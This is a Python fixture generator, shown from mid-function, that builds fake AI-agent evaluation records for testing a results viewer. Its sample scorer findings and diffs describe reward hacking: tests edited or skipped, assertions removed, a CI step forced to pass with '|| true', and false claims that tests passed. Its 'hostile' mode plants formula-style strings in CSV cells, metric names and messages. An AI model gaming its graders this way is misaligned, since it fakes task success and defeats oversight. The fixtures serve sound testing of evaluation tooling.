    advisory = [k for k, s in enumerate(specs) if rules.is_advisory(s["type"], s["required"])]
    gating = [k for k, s in enumerate(specs) if k not in advisory]
    verdicts: dict[int, str] = {}
    for k, spec in enumerate(specs):
        # A deterministic N/A pattern (not rng): required and advisory N/A both show up early.
        if gate.scorers == "NA" or (spec["type"] in _NA_PRONE and (ctx.i + k) % 4 == 0):
            verdicts[k] = "N/A"
        else:
            verdicts[k] = "PASS"
    if gate.scorers == "FAIL":
        first = gating[(ctx.i // len(GATE_CASES)) % len(gating)]
        failing = {first}
        if ctx.rng.random() < 0.3:
            failing.add(ctx.rng.choice(gating))
        for k in failing:
            verdicts[k] = "FAIL"
    if gate.advisory_fail:
        wanted = [k for k in advisory if specs[k]["type"] == gate.advisory_fail]
        verdicts[(wanted or advisory)[0]] = "FAIL"
    ctx.failing = [specs[k]["type"] for k, v in sorted(verdicts.items()) if v == "FAIL"]
    return [_scorer_result(ctx, spec, verdicts[k]) for k, spec in enumerate(specs)]


def _scorer_result(ctx: _Ctx, spec: dict[str, Any], verdict: str) -> dict[str, Any]:
    type_, config, rng = spec["type"], spec["config"], ctx.rng
    score = {"PASS": 1.0, "FAIL": 0.0, "N/A": 0.0}[verdict]
    detail, tail = _SCORER_TEXT[type_](ctx, config, verdict)
    if type_ == "command" and verdict == "FAIL":
        total = rng.randrange(6, 40)
        score = round(rng.randrange(0, total) / total, 4)
    if type_ == "llm_judge" and verdict == "PASS":
        score = round(rng.uniform(0.7, 1.0), 2)
    if type_ == "llm_judge" and verdict == "FAIL":
        score = round(rng.uniform(0.1, 0.45), 2)
    return {
        "name": spec["name"],
        "type": type_,
        "required": spec["required"],
        "verdict": verdict,
        "score": score,
        "detail": detail,
        "output_tail": tail,
        "config": config,
    }


def _pytest_tail(ctx: _Ctx, failed: int, passed: int) -> str:
    lines = [
        "============================= test session starts ==============================",
        f"collected {failed + passed} items",
        "",
        "tests/test_core.py " + "." * passed + "F" * failed,
    ]
    if failed:
        lines += [
            "=================================== FAILURES ===================================",
            "____________________________ test_line_numbers _____________________________",
            ">       assert stats.lines == expected",
            "E       AssertionError: assert [12, 13, 15] == [12, 13, 14]",
            f"E       agent wrote: {ctx.text('off-by-one in the loop guard')}",
        ]
    summary = f"{failed} failed, {passed} passed" if failed else f"{passed} passed"
    lines.append(
        f"========================= {summary} in 0.{ctx.i % 90 + 10}s ========================="
    )
    if ctx.long:
        lines.append(ctx.long_line("E   very long assertion diff line "))
    return "\n".join(lines)


def _text_command(ctx: _Ctx, config: dict[str, Any], verdict: str) -> tuple[str, str]:
    command = config.get("command", "pytest -q")
    if verdict == "PASS":
        passed = 10 + ctx.i % 20
        return f"`{command}` exited 0", _pytest_tail(ctx, 0, passed)
    if verdict == "N/A":
        return "no test command applies to this workspace", ""
    failed = 1 + ctx.i % 3
    return (
        f"`{command}` exited 1 ({failed} failed)",
        _pytest_tail(ctx, failed, 8 + ctx.i % 9),
    )


def _simple(pass_detail: str, fail_detail: str, na_detail: str = "not applicable") -> Any:
    def make(ctx: _Ctx, config: dict[str, Any], verdict: str) -> tuple[str, str]:
        if verdict == "PASS":
            return pass_detail.format(**config), ""
        if verdict == "N/A":
            return na_detail, ""
        detail = fail_detail.format(**config)
        return detail, ctx.text(f"checked the diff: {detail}")

    return make


_SCORER_TEXT: dict[str, Callable[[_Ctx, dict[str, Any], str], tuple[str, str]]] = {
    "command": _text_command,
    "allowed_paths": _simple(
        "all changed files match the allowed globs",
        "changed file outside the allowed globs: docs/NOTES.md",
    ),
    "forbid_paths": _simple(
        "no changed file matches a forbidden glob",
        "changed file matches a forbidden glob: .github/workflows/ci.yml",
    ),
    "max_files_changed": _simple(
        "changed files within the limit of {limit}",
        "12 files changed; the limit is {limit}",
    ),
    "forbid_secrets": _simple(
        "no secret-like pattern in the diff",
        "secret-like pattern in src/settings.py: AWS access key id (AKIA…)",
    ),
    "file_exists": _simple("{path} exists", "{path} is missing after the run"),
    "tests_unmodified": _simple(
        "graded test files untouched",
        "graded test file edited: {paths[0]}",
        "no graded test file in the diff",
    ),
    "baseline_unmodified": _simple(
        "scaffolding files untouched", "baseline file edited: {paths[0]}"
    ),
    "no_new_skips": _simple(
        "no new skip or xfail markers",
        "2 new skip markers: @pytest.mark.skip(reason='flaky')",
        "no test file changed",
    ),
    "assertions_not_weakened": _simple(
        "no assertions removed",
        "3 assertions net-removed from tests/test_core.py",
        "no test file changed",
    ),
    "llm_judge": _simple(
        "rubric note passed to the judge",
        "judge found the rubric unmet: unrelated refactors in the diff",
        "no rubric for this run",
    ),
}


# --- judge -------------------------------------------------------------------------------------
_REASONING_ON_SUCCESS = (
    "The agent read the failing test first, identified the off-by-one in the loop guard, "
    "changed one line and re-ran the suite, which passed. The final answer matches the "
    "reference within tolerance and the explanation is accurate."
)
_REASONING_ON_FAILURE = (
    "The agent claimed the tests passed but the transcript shows they were never run after "
    "the last edit. The answer file exists but its main value is wrong by a factor of 1000 "
    "(millivolts reported as volts), so the task is not complete."
)


def _judge_verdicts(ctx: _Ctx) -> list[dict[str, Any]]:
    outcome = ctx.gate.judge
    if not outcome:
        return []
    finished = ctx.start + timedelta(minutes=12)
    latest_at = finished + timedelta(minutes=ctx.rng.randrange(2, 30))
    verdicts = []
    if ctx.gate.rejudged:
        earlier = "FAIL" if outcome == "PASS" else "PASS"
        verdicts.append(
            _one_verdict(ctx, earlier, latest_at - timedelta(hours=ctx.rng.randrange(1, 6)))
        )
    # An UNPARSEABLE judge call sometimes never recorded a time; alone it is still "latest".
    scored = None if outcome == "UNPARSEABLE" and ctx.i % 2 else latest_at
    verdicts.append(_one_verdict(ctx, outcome, scored))
    return verdicts


def _one_verdict(ctx: _Ctx, outcome: str, scored_at: datetime | None) -> dict[str, Any]:
    rng = ctx.rng
    judge_model = rng.choice(JUDGE_MODELS)
    expected = "refusal" if ctx.task.refusal else "completion"
    if outcome == "UNPARSEABLE":
        raw = rng.choice(
            (
                'I think the agent did well overall. {"verdict": "PASS", "task_completion": 5,',
                "judge request failed HTTP 429: rate limited (request id: demo-429)",
                "```json\n{verdict: PASS}\n```",
            )
        )
        return {
            "verdict": "UNPARSEABLE",
            "judge_model": judge_model,
            "scored_at": scored_at,
            "raw_response": raw,
            "expected_outcome": expected,
        }
    passed = outcome == "PASS"
    reasoning = _REASONING_ON_SUCCESS if passed else _REASONING_ON_FAILURE
    if ctx.hostile:
        reasoning += f"\n\nThe agent's final message read: {ctx.lead}\n{HOSTILE_PAYLOAD}"
    if ctx.long:
        paragraphs = 4 if ctx.compact else 40
        reasoning += "".join(
            f"\n\nStep {n}: the agent ran `pytest -q -k case_{n}` and inspected the output; "
            "the observation supports the claim made in the next message, and no tool "
            "output was fabricated. " * 3
            for n in range(1, paragraphs + 1)
        )
    fact_checks = [
        {
            "claim": "The test suite passes after the change.",
            "status": "supported" if passed else "contradicted",
            "evidence": "step 7 observation: 14 passed" if passed else "no test run after step 5",
        },
        {
            "claim": ctx.text("The answer is in the expected file."),
            "status": "supported",
            "evidence": ctx.task.expected_output_path or "workspace diff",
        },
    ]
    if ctx.i % 3 == 0:
        fact_checks.append(
            {"claim": "No unrelated files changed.", "status": "unverifiable", "evidence": ""}
        )
    low, high = (4, 5) if passed else (1, 3)
    failure_mode = None
    if not passed:
        failure_mode = "reward_hacking" if ctx.failing else rng.choice(FAILURE_MODES)
    return {
        "verdict": outcome,
        "task_completion": rng.randint(low, high),
        "instruction_adherence": rng.randint(low, 5 if passed else 4),
        "efficiency": rng.randint(2 if passed else 1, 5 if passed else 4),
        "failure_mode": failure_mode,
        "reasoning": reasoning,
        "judge_model": judge_model,
        "scored_at": scored_at,
        "fact_checks": fact_checks,
        "expected_outcome": expected,
        "raw_response": "",
    }


# --- the agent's output, the verifier's files, the result ----------------------------------------
def _good_output(ctx: _Ctx) -> Any:
    rng, sample = ctx.rng, ctx.task.sample
    q = ctx.quality
    if sample == "voltage":
        drop = round(rng.uniform(2.0, 9.5), 2)
        return {
            "voltage_drop_v": drop,
            "voltage_drop_pct": round(drop / 2.3, 2),
            "compliant": drop / 2.3 <= 3,
            "notes": ctx.text("R = 2·L·rho/A with rho = 0.0175 ohm·mm²/m"),
        }
    if sample == "breaker":
        return {
            "breaker_rating_a": rng.choice((30, 40, 40, 50)),
            "wire_gauge_awg": rng.choice((10, 8, 8, 6)),
            "derating_factor": 0.91 if q > 0.5 else 0.82,
            "notes": ctx.text("continuous load: 125% rule applied"),
        }
    if sample == "schedule":
        rows = [
            {"circuit": f"L{n}", "load_w": str(rng.randrange(180, 2400)), "phase": "ABC"[n % 3]}
            for n in range(1, 7)
        ]
        if ctx.hostile:
            rows[0]["circuit"] = ctx.lead  # a formula in the first cell of an exported CSV
        return rows
    if sample == "report":
        return {
            "endpoints_migrated": rng.randrange(4, 19),
            "breaking_changes": ["GET /v1/users paging is now cursor based"],
            "summary": ctx.text("All v1 routes forward to v2; contract tests green."),
        }
    if sample == "settings":
        return {"service": {"name": "billing", "port": rng.choice((8080, 8443)), "debug": False}}
    if sample == "plan":
        return [
            {"step": 1, "action": "delegate", "target": "triage sub-agent"},
            {"step": 2, "action": "edit", "target": "billing.py"},
            {"step": 3, "action": "execute", "target": ctx.text("pytest -q")},
        ]
    if sample == "hdfs":
        return {
            "unique_blocks": rng.randrange(40, 400),
            "operations": {"allocate": rng.randrange(50, 90), "delete": rng.randrange(5, 30)},
            "job_id": "job_1445144423722_0020",
        }
    if sample == "ics":
        return (
            "BEGIN:VCALENDAR\nVERSION:2.0\nBEGIN:VEVENT\nSUMMARY:Project Sync\n"
            "DTSTART;TZID=America/New_York:20261110T150000\n"
            f"DESCRIPTION:{ctx.text('Discussing the Q1 roadmap.')}\nEND:VEVENT\nEND:VCALENDAR\n"
        )
    if sample == "refusal":
        return ctx.text(
            "I can't give instructions for working inside a live panel. Turn off the main "
            "breaker and call a licensed electrician."
        )
    return None


def _break_schema(data: Any, sample: str) -> Any:
    """A copy that parses but no longer fits the task's schema."""
    if isinstance(data, list):
        broken = [dict(row) for row in data]
        broken[-1].pop(next(iter(broken[-1])))
        if sample == "schedule":
            broken[0]["load_w"] = "1.2 kW"
        return broken
    broken = json.loads(json.dumps(data))
    if sample == "settings":
        broken["service"]["port"] = "eighty-eighty"
        return broken
    broken.pop(next(iter(broken)))
    return broken


def _serialise(data: Any, fmt: str) -> str:
    if fmt == "json":
        return json.dumps(data, indent=2, ensure_ascii=False) + "\n"
    if fmt == "jsonl":
        return "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in data)
    if fmt == "csv":
        out = io.StringIO()
        writer = csv.DictWriter(out, fieldnames=list(data[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(data)
        return out.getvalue()
    if fmt == "yaml":
        return str(yaml.safe_dump(data, sort_keys=False, allow_unicode=True))
    if fmt == "toml":
        return _toml(data)
    return str(data)


def _toml(data: dict[str, Any], prefix: str = "") -> str:
    lines, tables = [], []
    for key, value in data.items():
        if isinstance(value, dict):
            tables.append((key, value))
        elif isinstance(value, bool):
            lines.append(f"{key} = {'true' if value else 'false'}")
        elif isinstance(value, str):
            lines.append(f"{key} = {json.dumps(value)}")  # JSON strings are TOML basic strings
        else:
            lines.append(f"{key} = {value}")
    text = "\n".join(lines) + ("\n" if lines else "")
    for key, value in tables:
        name = f"{prefix}{key}"
        text += f"\n[{name}]\n" + _toml(value, f"{name}.")
    return text


_BROKEN = {
    "json": '{"voltage_drop_v": 4.21, "voltage_drop_pct": 1.83,\n',
    "jsonl": '{"step": 1, "action": "delegate"}\n{"step": 2, "action": \n',
    "csv": 'circuit,load_w,phase\nL1,"1200,A\n',
    "toml": "[service]\nname = billing-service\nport = \n",
    "yaml": "unique_blocks: 120\noperations: {allocate: 61, delete: [7\n",
}


def _output(ctx: _Ctx) -> str | None:
    """The agent's output file as it would be on disk; None when the agent wrote none."""
    task = ctx.task
    if not task.expected_output_path or ctx.validity == "output_missing":
        return None
    if ctx.exception in NOT_GRADED:
        return None
    if ctx.validity in {"unparseable", "rejected_nonzero"}:
        text = _BROKEN[task.output_format]
        return f"{text}{ctx.lead}\n" if ctx.hostile else text
    data = _good_output(ctx)
    if ctx.validity == "schema_invalid":
        data = _break_schema(data, task.sample)
    text = _serialise(data, task.output_format)
    if ctx.long and task.output_format == "text":
        text += ctx.long_line("lorem ipsum dolor sit amet ") + "\n"
    return text


def _dims(ctx: _Ctx) -> dict[str, dict[str, Any]]:
    rng, q = ctx.rng, ctx.quality
    dims: dict[str, dict[str, Any]] = {}
    for name in ctx.task.dims:
        score = round(min(1.0, max(0.0, q + rng.uniform(-0.15, 0.15))), 2)
        evidence = "within 2% of reference" if score > 0.8 else "off by more than 10%"
        dims[name] = {"score": score, "max_score": 1.0, "evidence": evidence}
    if ctx.hostile and dims:
        first = next(iter(dims))
        dims[first]["evidence"] = ctx.text(dims[first]["evidence"])
    return dims


def _reward_payload(ctx: _Ctx, intended: float) -> tuple[str, dict[str, Any]]:
    """reward file name and the JSON the verifier writes for a reward it believes in."""
    kind, q, rng = ctx.task.kind, ctx.quality, ctx.rng
    if kind == "swe" and not ctx.task.output_format:
        return "reward.txt", {"reward": intended}
    if kind == "pinch":
        checks = ("file_created", "date_correct", "time_correct", "title_correct")
        values = {f"automated.{c}": float(rng.random() < q) for c in checks}
        payload: dict[str, Any] = {"reward": intended, "automated": intended, **values}
        return "reward.json", payload
    if kind == "claw":
        payload = {
            "reward": intended,
            "clawbench.run_score": intended,
            "clawbench.completion_score": round(q, 4),
            "clawbench.trajectory_score": round(rng.uniform(0.2, 1.0), 4),
            "clawbench.behavior_score": round(rng.uniform(0.3, 1.0), 4),
            "clawbench.judge_enabled": 1.0,
            "clawbench.total_assertions": 2,
            "clawbench.passed_assertions": int(q > 0.5) + int(q > 0.8),
        }
        if ctx.hostile:
            payload[ctx.lead] = 0.5  # a hostile metric name: exports turn keys into columns
        return "reward.json", payload
    return "reward.json", {"reward": intended}


def _results(ctx: _Ctx) -> tuple[list[dict[str, Any]], HarborHints]:
    task, rng = ctx.task, ctx.rng
    output = _output(ctx)
    if ctx.check_outputs:
        check = rules.check_output(
            None if output is None else output.encode(),
            expected_output_path=task.expected_output_path,
            output_format=task.output_format,
            output_schema=task.output_schema,
        )
    else:
        check = _intended_check(ctx, output)
    dims = _dims(ctx) if task.dims and ctx.validity != "verifier_missing" else {}
    if dims:
        # Verifiers that score with a rubric call the rubric scorer before writing reward.json.
        dimensions = DetailsFile.from_data(dims).dimensions
        believed = rubric.score(dimensions, task.rubric_strategy)  # type: ignore[arg-type]
    elif task.kind == "swe" and not task.output_format:
        believed = 0.0 if "command" in ctx.failing else 1.0
    else:
        believed = round(ctx.quality, 4)
    if ctx.validity in {"unparseable", "output_missing"}:
        believed = 0.0  # a sound verifier gives nothing for output it cannot read
    if ctx.validity == "rejected_nonzero":
        believed = max(0.35, round(ctx.quality, 4))  # a lenient verifier scored it anyway
    reward_file, payload = _reward_payload(ctx, believed)

    raw: bytes | None
    if ctx.validity == "verifier_missing":
        raw = None
    elif ctx.validity == "reward_unreadable":
        raw = rng.choice((b'{"reward": 0.9', b"", b"reward=0.9\n"))
        reward_file = "reward.json"
    elif ctx.validity == "reward_no_key":
        payload = {"score": believed, **{k: v for k, v in payload.items() if k != "reward"}}
        raw, reward_file = json.dumps(payload).encode(), "reward.json"
    elif ctx.validity == "reward_out_of_range":
        payload = {**payload, "reward": rng.choice((1.7, -0.25, 93.0))}
        raw, reward_file = json.dumps(payload).encode(), "reward.json"
    elif ctx.validity == "reward_not_number":
        payload = {**payload, "reward": rng.choice(("0.9", True, None))}
        raw, reward_file = json.dumps(payload).encode(), "reward.json"
    elif reward_file == "reward.txt":
        raw = f"{believed:g}\n".encode()
    else:
        raw = (json.dumps(payload, indent=2, ensure_ascii=False) + "\n").encode()
    if raw is None:
        reading = rules.read_reward_json(None)
    elif reward_file == "reward.txt":
        reading = rules.read_reward_txt(raw)
    else:
        reading = rules.read_reward_json(raw)
    # The reward stays what the verifier wrote: for a rejected one, the writer applies seed
    # 000's cross-field validator (`ResultRecord.checked`), as it does for real input.
    reward = believed if ctx.validity == "rejected_nonzero" else reading.reward

    artifacts: dict[str, str] = {}
    if raw is not None:
        artifacts[f"logs/verifier/{reward_file}"] = raw.decode()
    details_raw = None
    if dims:
        details_raw = (json.dumps(dims, indent=2, ensure_ascii=False) + "\n").encode()
        artifacts["logs/verifier/details.json"] = details_raw.decode()
    if output is not None:
        artifacts[task.expected_output_path.lstrip("/")] = output
    created = ctx.start + timedelta(minutes=14)
    current = {
        "reward": reward,
        "metrics": reading.metrics,
        "validity": {
            "output_parseable": check.output_parseable,
            "schema_valid": check.schema_valid,
            "verifier_completed": reading.verifier_completed,
            "errors": [*check.errors, *reading.errors],
        },
        "breakdown": dims or None,
        "confidence": _confidence(ctx, reading.reward) if ctx.i % CONFIDENCE_EVERY == 0 else None,
        "artifact_digest": _digest(artifacts),
        "raw_artifacts": artifacts,
        "is_current": True,
        "created_at": created,
    }
    results = [current]
    if ctx.i % RESULT_HISTORY_EVERY == 0 and raw is not None:
        # Ingested once before, when the verifier had crashed: kept, no longer current.
        old_artifacts = {"logs/verifier/stderr.txt": "verifier crashed: OSError: disk full\n"}
        old_reading = rules.read_reward_json(None)
        results.insert(
            0,
            {
                "reward": 0.0,
                "metrics": {},
                "validity": {
                    "output_parseable": check.output_parseable,
                    "schema_valid": check.schema_valid,
                    "verifier_completed": False,
                    "errors": [*check.errors, *old_reading.errors],
                },
                "artifact_digest": _digest(old_artifacts),
                "raw_artifacts": old_artifacts,
                "is_current": False,
                "created_at": created - timedelta(days=1),
            },
        )
    hints = HarborHints(
        reward_file=reward_file if raw is not None else "",
        reward_raw=raw,
        details_raw=details_raw,
    )
    return results, hints


def _intended_check(ctx: _Ctx, output: str | None) -> rules.OutputCheck:
    """The validity the case table meant, without running the validators.

    Only for Harbor folders, which record no validity (the ingest reader works it out from
    the files); the database paths always ask `rules.check_output`.
    """
    if not ctx.task.expected_output_path:
        return rules.OutputCheck(True, True)
    if output is None:
        return rules.OutputCheck(False, False, ["output file missing"])
    if ctx.validity in {"unparseable", "rejected_nonzero"}:
        return rules.OutputCheck(False, False, ["output does not parse"])
    if ctx.validity == "schema_invalid":
        return rules.OutputCheck(True, False, ["output does not match the schema"])
    return rules.OutputCheck(True, True)


def _confidence(ctx: _Ctx, reward: float) -> dict[str, Any]:
    spread = round(ctx.rng.uniform(0.02, 0.12), 3)
    return {
        "method": "bootstrap",
        "n": 200,
        "ci_low": round(max(0.0, reward - spread), 4),
        "ci_high": round(min(1.0, reward + spread), 4),
    }


def _digest(artifacts: dict[str, str]) -> str:
    return hashlib.sha256(json.dumps(artifacts, sort_keys=True).encode()).hexdigest()


# --- the trial record: status, exception, timings, blobs ---------------------------------
_TRACEBACK_TIMEOUT = """Traceback (most recent call last):
  File "/opt/harbor/src/harbor/trial/trial.py", line 371, in _execute_agent
    await asyncio.wait_for(self._agent.run(instruction, environment), timeout)
  File "/usr/lib/python3.13/asyncio/tasks.py", line 507, in wait_for
    return await fut
asyncio.exceptions.CancelledError

The above exception was the direct cause of the following exception:

Traceback (most recent call last):
  File "/opt/harbor/src/harbor/trial/trial.py", line 964, in run
    await self._execute_agent()
  File "/opt/harbor/src/harbor/trial/trial.py", line 382, in _execute_agent
    raise AgentTimeoutError(
harbor.trial.trial.AgentTimeoutError: {message}
"""
_TRACEBACK_GENERIC = """Traceback (most recent call last):
  File "/opt/harbor/src/harbor/trial/trial.py", line 964, in run
    await self._{phase}()
  File "/opt/harbor/src/harbor/{module}.py", line {line}, in _{phase}
    raise {type}({message!r})
{qualified}: {message}
"""
_EXCEPTIONS: dict[str, tuple[str, str, str, str]] = {
    # case: type, message, phase, module
    "agent_timeout_with_reward": (
        "AgentTimeoutError",
        "Agent execution timed out after 540.0 seconds",
        "execute_agent",
        "trial/trial",
    ),
    "verifier_timeout": (
        "VerifierTimeoutError",
        "Verifier execution timed out after 120.0 seconds",
        "run_verification",
        "verifier/verifier",
    ),
    "reward_file_not_found": (
        "RewardFileNotFoundError",
        "No reward file found at /logs/verifier/reward.json or /logs/verifier/reward.txt",
        "run_verification",
        "verifier/verifier",
    ),
    "nonzero_agent_exit": (
        "NonZeroAgentExitCodeError",
        "Agent command exited with code 137 (killed: out of memory)",
        "execute_agent",
        "agents/installed/base",
    ),
    "environment_start_timeout": (
        "EnvironmentStartTimeoutError",
        "Environment did not start within 600.0 seconds",
        "setup_environment",
        "environments/docker/docker",
    ),
    "cancelled": ("CancelledError", "", "execute_agent", "trial/trial"),
}


def _exception(ctx: _Ctx) -> tuple[str, str, str]:
    case = ctx.exception
    if case not in _EXCEPTIONS:
        return "", "", ""
    type_, message, phase, module = _EXCEPTIONS[case]
    if ctx.hostile and message:
        message = f"{ctx.lead} {message}"  # the agent's stderr ends up in the message
    if case == "agent_timeout_with_reward":
        traceback = _TRACEBACK_TIMEOUT.format(message=message)
    else:
        qualified = f"harbor.{module.replace('/', '.')}.{type_}"
        if type_ == "CancelledError":
            qualified = "asyncio.exceptions.CancelledError"
        traceback = _TRACEBACK_GENERIC.format(
            phase=phase,
            module=module,
            line=100 + len(message) % 400,
            type=type_,
            message=message,
            qualified=qualified,
        )
    return type_, message, traceback


def _status(ctx: _Ctx) -> str:
    if ctx.exception in {"running", "pending", "cancelled"}:
        return ctx.exception
    if ctx.exception in {"", "agent_timeout_with_reward"}:
        return "completed"  # Harbor ran the verifier after the timeout: the run completed
    return "failed"


def _phases(ctx: _Ctx) -> list[tuple[str, datetime, datetime]]:
    """Harbor's timing blocks, each (name, started, finished)."""
    rng, t = ctx.rng, ctx.start
    phases = []
    for name, low, high in (
        ("environment_setup", 2, 40),
        ("agent_setup", 1, 60),
        ("agent_execution", 20, 500),
        ("verifier", 1, 80),
    ):
        if name == "agent_execution" and ctx.exception == "agent_timeout_with_reward":
            seconds = 540.0
        elif name == "environment_setup" and ctx.exception == "environment_start_timeout":
            seconds = 600.0
        else:
            seconds = rng.uniform(low, high)
        end = t + timedelta(seconds=round(seconds, 3))
        phases.append((name, t, end))
        t = end + timedelta(milliseconds=rng.randrange(1, 300))
        if ctx.exception == "environment_start_timeout" or (
            name == "agent_execution" and ctx.exception in {"cancelled", "running"}
        ):
            break
    return phases


def _trial_record(ctx: _Ctx, current: dict[str, Any]) -> dict[str, Any]:
    plan, profile, task, rng = ctx.plan, ctx.profile, ctx.task, ctx.rng
    status = _status(ctx)
    exception_type, exception_message, traceback = _exception(ctx)
    phases = [] if status == "pending" else _phases(ctx)
    started = ctx.start if phases else None
    finished = phases[-1][2] if phases and status != "running" else None
    agent_ran = status != "pending" and ctx.exception != "environment_start_timeout"
    n_in = rng.randrange(2_000, 600_000) if agent_ran else None
    n_out = rng.randrange(200, 30_000) if agent_ran else None
    n_cache = rng.randrange(0, 4_000_000) if agent_ran else None
    cost = None
    if n_in is not None and n_out is not None and profile.usd_per_mtok_in is not None:
        cost = round(
            n_in * profile.usd_per_mtok_in / 1e6 + n_out * (profile.usd_per_mtok_out or 0) / 1e6, 6
        )
    final = _final_response(ctx) if agent_ran and status != "running" else ""
    command, exit_code, stdout, stderr = (
        _command_output(ctx, final) if agent_ran else ("", None, "", "")
    )
    workspace = task.has_scorers and agent_ran
    return {
        "name": plan.trial_name(ctx.i, task),
        "uid": plan.uid(ctx.i),
        "agent_name": profile.agent,
        "agent_version": profile.version,
        "model_name": profile.model,
        "model_provider": profile.provider,
        "status": status,
        "started_at": started,
        "finished_at": finished,
        # JSON column: ISO strings, as Harbor writes them.
        "timings": {name: {"started_at": _iso(s), "finished_at": _iso(e)} for name, s, e in phases},
        "n_input_tokens": n_in,
        "n_cache_tokens": n_cache,
        "n_output_tokens": n_out,
        "cost_usd": cost,
        "exception_type": exception_type,
        "exception_message": exception_message,
        "exception_traceback": traceback,
        "config": _trial_config(ctx),
        "trajectory": _trajectory(ctx, final) if agent_ran else None,
        "workspace_diff": _workspace_diff(ctx) if workspace else "",
        "command": command,
        "exit_code": exit_code,
        "stdout_tail": stdout,
        "stderr_tail": stderr,
        "final_response": final,
        "verifier_stdout": _verifier_stdout(ctx, current),
        "ctrf": _ctrf(ctx)
        if task.kind == "swe" and current["validity"]["verifier_completed"]
        else None,
    }


def _final_response(ctx: _Ctx) -> str:
    text = {
        "contract": "I computed the result and wrote it to {path}.",
        "swe": "Fixed the bug and ran the tests; all pass locally. Summary of the change is in "
        "the diff.",
        "pinch": "Done. Created the requested file at {path}.",
        "claw": "Delegated triage, repaired both functions and logged the plan to {path}.",
    }[ctx.task.kind].format(path=ctx.task.expected_output_path or "the workspace")
    if ctx.long:
        text += "\n\n| field | value |\n|---|---|\n" + "".join(
            f"| row {n} | {'x' * 40} |\n" for n in range(10 if ctx.compact else 300)
        )
        text += ctx.long_line("no-line-break-") + "\n"
    if ctx.hostile:
        return f"{ctx.lead}\n{text}\n{HOSTILE_PAYLOAD}"  # the lead starts the cell in a CSV
    return text


def _command_output(ctx: _Ctx, final: str) -> tuple[str, int | None, str, str]:
    profile = ctx.profile
    command = {
        "claude-code": "claude --print --output-format stream-json --model {model} "
        '"$(cat /task/instruction.md)"',
        "openclaw": "openclaw run --model {model} --task /task/instruction.md",
        "terminus-2": "terminus run --model {model} --tmux-session agent",
        "codex": 'codex exec --model {model} --full-auto "$(cat /task/instruction.md)"',
        "openhands": "python -m openhands.core.main -t /task/instruction.md",
        "aider": "aider --model {model} --yes-always --message-file /task/instruction.md",
        "goose": "goose run --instructions /task/instruction.md",
    }[profile.agent].format(model=_qualified_model(profile))
    exit_code = {
        "nonzero_agent_exit": 137,
        "agent_timeout_with_reward": 124,
        "cancelled": 130,
    }.get(ctx.exception, 0)
    stdout = "\n".join(
        [
            f"[{profile.agent}] session started",
            "[tool] bash: ls -la /workspace",
            "[tool] bash: pytest -q",
            final[-(300 if ctx.compact else 2_000) :] if final else "",
        ]
    )
    stderr = ""
    if exit_code:
        stderr = ctx.text("Killed\nerror: agent process exited unexpectedly")
    elif ctx.rng.random() < 0.3:
        stderr = "warning: context window 80% full; compacting history"
    if ctx.long:
        stdout += "\n" + ctx.long_line("0123456789abcdef")
    return command, exit_code, stdout, stderr


def _trial_config(ctx: _Ctx) -> dict[str, Any]:
    """Harbor's TrialConfig without the trial's identity (trial_name, trials_dir, job_id)."""
    profile, task = ctx.profile, ctx.task
    env_key = "ANTHROPIC_API_KEY" if profile.provider == "anthropic" else "OPENAI_API_KEY"
    return {
        "task": {"path": f"datasets/{task.source}/{task.short}", "source": task.source},
        "timeout_multiplier": 1.0,
        "agent_timeout_multiplier": 3.0 if task.kind == "pinch" else None,
        "agent": {
            "name": profile.agent,
            "model_name": _qualified_model(profile),
            "kwargs": {"version": profile.version, "max_tokens": 8192},
            "env": {env_key: "${" + env_key + "}"},
        },
        "environment": {"type": "docker", "force_build": False, "delete": True},
        "verifier": {"override_timeout_sec": None, "disable": False},
    }


def _trajectory(ctx: _Ctx, final: str) -> dict[str, Any]:
    """A small ATIF-v1.7 trajectory: the user's task, tool calls with observations, the end."""
    profile, rng = ctx.profile, ctx.rng
    steps: list[dict[str, Any]] = [
        {"step_id": 1, "source": "user", "message": ctx.task.instruction}
    ]
    calls = [
        ("bash", {"command": "ls -la /workspace && git status --short"}, " M src/core.py\n"),
        ("bash", {"command": "pytest -q tests/test_core.py"}, "1 failed, 13 passed in 0.41s"),
        (
            "write",
            {"path": ctx.task.expected_output_path or "src/core.py", "content": "…"},
            "Successfully wrote 530 bytes",
        ),
    ]
    if ctx.compact and not ctx.long:
        # The fast path stores a million of these: keep the tool call that matters.
        calls = calls[1:2]
    if ctx.long:
        extra = 2 if ctx.compact else 60
        calls += [("bash", {"command": f"grep -rn case_{n} ."}, "no matches") for n in range(extra)]
    prompt_total = completion_total = 0
    for n, (function, arguments, result) in enumerate(calls, start=2):
        prompt, completion = rng.randrange(300, 4000), rng.randrange(20, 600)
        prompt_total += prompt
        completion_total += completion
        call_id = f"call_{ctx.i}_{n}"
        observation = result
        if ctx.hostile and n == 2:
            observation = ctx.text(result)  # tool output is agent-controlled text too
        step: dict[str, Any] = {
            "step_id": n,
            "source": "agent",
            "model_name": profile.model,
            "message": "" if n % 2 else "Let me check the current state first.",
            "tool_calls": [
                {"tool_call_id": call_id, "function_name": function, "arguments": arguments}
            ],
            "observation": {"results": [{"source_call_id": call_id, "content": observation}]},
            "metrics": {"prompt_tokens": prompt, "completion_tokens": completion},
        }
        if n == 2:  # models that think out loud record it on the step (ATIF reasoning_content)
            step["reasoning_content"] = (
                "The failing assertion points at the loop guard; read it before editing."
            )
        steps.append(step)
    if final:
        steps.append(
            {
                "step_id": len(steps) + 1,
                "source": "agent",
                "model_name": profile.model,
                "message": final[: 600 if ctx.compact else 4_000],
            }
        )
    return {
        "schema_version": "ATIF-v1.7",
        "session_id": str(uuid.UUID(int=rng.getrandbits(128), version=4)),
        "agent": {
            "name": profile.agent,
            "version": profile.version,
            "model_name": _qualified_model(profile),
        },
        "steps": steps,
        "final_metrics": {
            "total_prompt_tokens": prompt_total,
            "total_completion_tokens": completion_total,
            "total_steps": len(steps),
        },
    }


_DIFF_HUNKS: dict[str, str] = {
    "allowed_paths": "diff --git a/docs/NOTES.md b/docs/NOTES.md\nnew file mode 100644\n"
    "--- /dev/null\n+++ b/docs/NOTES.md\n@@ -0,0 +1,2 @@\n+# Notes\n+{text}\n",
    "forbid_paths": "diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\n"
    "--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n@@ -12,3 +12,3 @@ jobs:\n"
    "-      - run: pytest -q\n+      - run: pytest -q || true\n",
